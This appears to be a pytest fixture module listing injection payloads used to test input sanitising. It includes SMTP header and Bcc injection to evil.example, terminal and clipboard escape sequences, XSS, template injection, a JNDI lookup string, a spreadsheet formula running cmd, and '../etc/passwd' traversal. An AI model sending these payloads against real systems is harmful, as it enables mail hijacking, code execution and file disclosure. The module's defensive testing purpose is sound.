"""What strangers put into fields: one payload of each kind that did harm somewhere."""

import re

import pytest

MARK = "qxjzkwvq"  # stands in every payload, and nowhere in what is ours, not even by chance in a signature
PAYLOADS: dict[str, bytes] = {
    name: payload.encode("utf-8", "surrogateescape")
    for name, payload in {
        "header": "qxjzkwvq\r\nBcc: qxjzkwvq@evil.example\r\nX-Qxjzkwvq: 1",
        "folded header": "qxjzkwvq\r\n \r\nBcc: qxjzkwvq@evil.example",
        "end of headers": "qxjzkwvq\r\n\r\nqxjzkwvq",
        "lone CR": "qxjzkwvq\rBcc: qxjzkwvq@evil.example",
        "lone LF": "qxjzkwvq\nBcc: qxjzkwvq@evil.example",
        "end of data": "qxjzkwvq\r\n.\r\nMAIL FROM:<qxjzkwvq@evil.example>",
        "encoded CRLF": "=?utf-8?q?qxjzkwvq=0D=0ABcc:_qxjzkwvq@evil.example?=",
        "NUL": "q\0qxjzkwvq\0",
        "terminal title": "\x1b]0;qxjzkwvq\x07\x1b[31;5m\x1b[2J",
        "clipboard": "\x1b]52;c;cXhqemt3dnE=\x1b\\qxjzkwvq\x08\x08\x7f",
        "C1": "\u009b31mqxjzkwvq\u0090q\u009c\u009d0;qxjzkwvq\u0085qxjzkwvq",
        "bidi": "qxjzkwvq\u202egnp.exe\u202c\u2066qxjzkwvq\u2069\u200f\u061c\u200e",
        "zero width": "un\u200bsub\u200dscribe\u2060\ufeffqxjzkwvq\u00ad\U000e0041",
        "line separators": "qxjzkwvq\u2028qxjzkwvq\u2029qxjzkwvq\x0b\x0c\x1c\x1e",
        "script": "<script>qxjzkwvq()</script>",
        "img": "<img src=x onerror=qxjzkwvq()>",
        "svg": '"><svg/onload=qxjzkwvq()>',
        "template": "{{7*7}}qxjzkwvq{{config}}",
        "template tag": "{% include 'qxjzkwvq' %}",
        "format": "${jndi:ldap://qxjzkwvq} {qxjzkwvq.__class__} {0} %(qxjzkwvq)s %s%n",
        "markup": "[bold]qxjzkwvq[/] [link=https://evil.example]qxjzkwvq[/link] :pile_of_poo: qxjzkwvq",
        "formula": "=cmd|'/c calc'!A0 qxjzkwvq",
        "plus": "+qxjzkwvq+1",
        "minus": "-qxjzkwvq-1",
        "at": "@SUM(qxjzkwvq)",
        "path": "../../qxjzkwvq/../etc/passwd",
        "long": "qxjzkwvq " * 4000 + "z" * 20_000,
        "surrogates": "qxjzkwvq\udced\udca0\udc80\udcff\udcfe\udcc0\udcaf\udcf4\udc90\udc80",  # octets, no UTF-8
    }.items()
}
#: C0 but tab, DEL, C1, separators, direction controls, half characters
HARMFUL = re.compile(
    "[\x00-\x08\x0a-\x1f\x7f-\x9f\u2028\u2029\u200e\u200f\u061c\u202a-\u202e\u2066-\u2069\ud800-\udfff]"
)

every_payload = pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS)
